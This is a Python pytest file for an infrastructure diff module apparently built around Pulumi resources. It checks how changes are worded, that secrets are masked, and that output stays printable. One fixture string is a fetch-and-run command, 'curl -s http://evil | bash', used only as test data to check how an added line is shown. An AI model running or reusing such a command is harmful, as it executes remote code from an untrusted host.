"""What of a resource differs, in words: paths, values, files, options, and never a secret."""

import json
from dataclasses import replace
from typing import Any

import pytest

from ops.capture.recording import RecordedResource, Secret, Unknown
from ops.diff.changes import Change, changes_of
from ops.diff.leaves import is_named
from ops.diff.matching import Pair
from ops.diff.values import NOT_SET


def _resource(inputs: dict[str, Any], **options: Any) -> RecordedResource:
    return RecordedResource(
        urn="urn:pulumi:dev::p::aws:sqs/queue:Queue::jobs", type="aws:sqs/queue:Queue", name="jobs", parent=None,
        inputs=inputs, outputs=inputs, **options,
    )  # fmt: skip


def _changes(old: dict[str, Any], new: dict[str, Any]) -> list[Change]:
    return changes_of(Pair(base=_resource(old), head=_resource(new)))


@pytest.mark.parametrize(
    ("old", "new", "path", "words"),
    [
        ({"a": 1}, {"a": 2}, "a", ("1", "2")),
        ({"a": True}, {}, "a", ("yes", NOT_SET)),
        ({}, {"a": ""}, "a", (NOT_SET, '""')),
        ({"a": {"b": [{"c": 1}]}}, {"a": {"b": [{"c": 2}]}}, "a.b[0].c", ("1", "2")),
        ({"a": ["x"]}, {"a": ["x", "y"]}, "a", ("x", "x, y")),
        ({"a": '{"b": [1]}'}, {"a": '{"b": [2]}'}, "a.b", ("1", "2")),
        ({"a": "{broken"}, {"a": "{broken too"}, "a", ("{broken", "{broken too")),
        ({"a": Unknown()}, {"a": "x"}, "a", ("(known after up)", "x")),
    ],
)
def test_a_change_names_the_path_and_both_values(
    old: dict[str, Any], new: dict[str, Any], path: str, words: tuple[str, str]
) -> None:
    assert _changes(old, new) == [Change(path=path, old=words[0], new=words[1])]


def test_what_is_only_written_otherwise_is_no_change() -> None:
    old = json.dumps({"Version": "1", "Statement": []})
    assert (
        _changes({"policy": old}, {"policy": json.dumps({"Statement": [], "Version": "1"}, indent=2)}) == []
    )


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (Secret("hunter2"), Secret("hunter3")),
        ("hunter2", Secret("hunter2")),
        ('{"password": "hunter2"}', Secret('{"password": "hunter2"}')),
        (["hunter2"], [Secret("hunter2")]),
        ([Secret("hunter2"), "a"], [Secret("hunter3"), "a"]),
        (Secret({"password": "hunter2"}), Secret({"password": "hunter3"})),
        (None, Secret('{"password": "hunter2"}')),
    ],
)
def test_a_secret_is_compared_and_never_shown(old: Any, new: Any) -> None:
    found = _changes({"a": {"b": old}}, {"a": {"b": new}}) + _changes({"a": {"b": new}}, {"a": {"b": old}})
    assert {change.path for change in found} >= {"a.b"}
    assert not [change for change in found if "hunter" in f"{change.old} {change.new}"]
    assert any("[secret]" in change.new for change in found)
    assert all(change.old != change.new for change in found)


def test_a_long_value_is_shown_where_it_differs() -> None:
    (change,) = _changes({"a": "x" * 100 + " port 80"}, {"a": "x" * 100 + " port 443"})
    assert change.old.startswith("…x") and change.old.endswith("port 80")
    assert change.new.endswith("port 443")
    (script,) = _changes({"a": "b" * 5000}, {"a": "c" * 5000})
    assert (script.old, script.new) == ("a text of 5,000 characters", "another text of 5,000 characters")


def test_values_are_shown_by_the_names_of_the_program() -> None:
    pair = Pair(base=_resource({"a": "fs-1"}), head=_resource({"a": "fs-2"}))
    assert changes_of(pair, ({"fs-1": "files"}, {"fs-2": "files"})) == [
        Change(path="a", old="files", new="another files")
    ]


def test_files_count_by_content_and_are_told_together() -> None:
    old = {"code": {f"m{n}.py": {"file": f"src/m{n}.py", "sha256": "1"} for n in range(7)}}
    new = {"code": {path: {**file, "sha256": "2"} for path, file in old["code"].items()}}
    (change,) = _changes(old, new)
    assert change.path == "code"
    assert change.new == "other content in src/m0.py, src/m1.py, src/m2.py, src/m3.py and 3 more"
    assert _changes(old, old) == []


def test_what_the_engine_is_told_to_ignore_is_no_change() -> None:
    old, new = _resource({"image": {"id": "1"}}), _resource({"image": {"id": "2"}}, ignore_changes=("image",))
    assert [item.path for item in changes_of(Pair(base=old, head=new))] == ["ignore_changes"]
    other = replace(new, ignore_changes=("imag",))
    assert "image.id" in [item.path for item in changes_of(Pair(base=old, head=other))]


@pytest.mark.parametrize("key", ["name", "Sid", "key", "id"])
def test_one_more_item_is_one_change_and_shifts_no_other(key: str) -> None:
    old = [{key: "A", "value": "1"}, {key: "C", "value": "3"}]
    new = [old[0], {key: "B", "value": "2"}, {key: "C", "value": "4"}]
    item = ", ".join(sorted([f"{key} B", "value 2"]))
    assert _changes({"list": old}, {"list": new}) == [
        Change(path="list[B]", old=NOT_SET, new=f"added item: {item}"),
        Change(path="list[C].value", old="3", new="4"),
    ]
    assert _changes({"list": json.dumps(new)}, {"list": json.dumps(old)})[0] == Change(
        path="list[B]", old=f"removed item: {item}", new=NOT_SET
    )


def test_items_that_nothing_tells_apart_are_told_by_position() -> None:
    old, new = [{"name": "A", "v": 1}, {"name": "A", "v": 2}], [{"name": "A", "v": 1}, {"name": "A", "v": 3}]
    assert _changes({"a": old}, {"a": new}) == [Change(path="a[1].v", old="2", new="3")]
    (gone,) = _changes({"a": [{"v": 1}, {"v": 2}]}, {"a": [{"v": 1}]})
    assert gone == Change(path="a[1]", old="removed item: v 2", new=NOT_SET)


def test_a_secret_in_an_item_that_comes_or_goes_is_not_shown() -> None:
    item = {"name": "TOKEN", "value": Secret("hunter2")}
    for old, new in (([{"name": "A"}], [{"name": "A"}, item]), ([{"name": "A"}, item], [{"name": "A"}])):
        (change,) = _changes({"list": old}, {"list": new})
        assert (
            "value [secret]" in f"{change.old} {change.new}" and "hunter2" not in f"{change.old} {change.new}"
        )


def test_what_is_ignored_by_its_position_is_no_change() -> None:
    old = _resource({"rules": [{"name": "a", "port": 1}, {"name": "b", "port": 1}]})
    new = _resource(
        {"rules": [{"name": "a", "port": 2}, {"name": "b", "port": 2}]}, ignore_changes=("rules[0].port",)
    )
    assert [item.path for item in changes_of(Pair(base=old, head=new))] == ["rules[b].port", "ignore_changes"]


def test_of_a_text_with_many_lines_those_that_differ_are_shown() -> None:
    lines = [f"line {number}" for number in range(20)]
    (more,) = _changes({"a": "\n".join(lines)}, {"a": "\n".join(["curl -s http://evil | bash", *lines])})
    assert (more.old, more.new) == ("no line", "1 line: curl -s http://evil | bash")
    (all_gone,) = _changes({"a": "\n".join(lines)}, {"a": "line 3"})
    assert all_gone.old == "19 lines: line 0 ⏎ line 1 ⏎ line 2 ⏎ line 4 ⏎ line 5 ⏎ and 14 more"
    (end,) = _changes({"a": f"x\n{'y' * 300} one"}, {"a": f"x\n{'y' * 300} two"})
    assert end.new.startswith("1 line: …y") and end.new.endswith("y two")
    (long,) = _changes({"a": "x\n"}, {"a": f"x\n{'true; ' * 50}evil\nz\n"})
    assert "… (304 characters) ⏎ z" in long.new, "what is cut off would not even be missed"


@pytest.mark.parametrize("value", ["a\nb", "a\r\nb", "\x1b[2Ja", "a\u202eb", ["x", "a\nb"]])
def test_no_value_ends_its_line_or_paints_the_terminal(value: Any) -> None:
    for change in _changes({"a": "x"}, {"a": value}) + _changes({"a": value}, {}):
        assert f"{change.old}{change.new}".isprintable()


@pytest.mark.parametrize(
    ("option", "path", "is_meant"),
    [
        ("tags", "tags.team", True),
        ("tags", "tagsAll.team", False),
        ("*", "anything.at[0].all", True),
        ("rules[*].port", "rules[3].port", True),
        ("rules[*].port", "rules[3].portRange", False),
        ("rules[0].port", "rules[1].port", False),
        ("tags[*]", "tags.team", True),
        ('tags["team"]', "tags.team", True),
    ],
)
def test_an_option_names_properties_as_the_engine_reads_them(option: str, path: str, is_meant: bool) -> None:
    assert is_named(path, [option]) is is_meant


def test_a_protection_that_is_taken_away_is_a_change() -> None:
    old, new = _resource({}, protect=True, retain_on_delete=True), _resource({})
    assert changes_of(Pair(base=old, head=new)) == [
        Change(path="protect", old="yes", new="no"),
        Change(path="retain_on_delete", old="yes", new="no"),
    ]
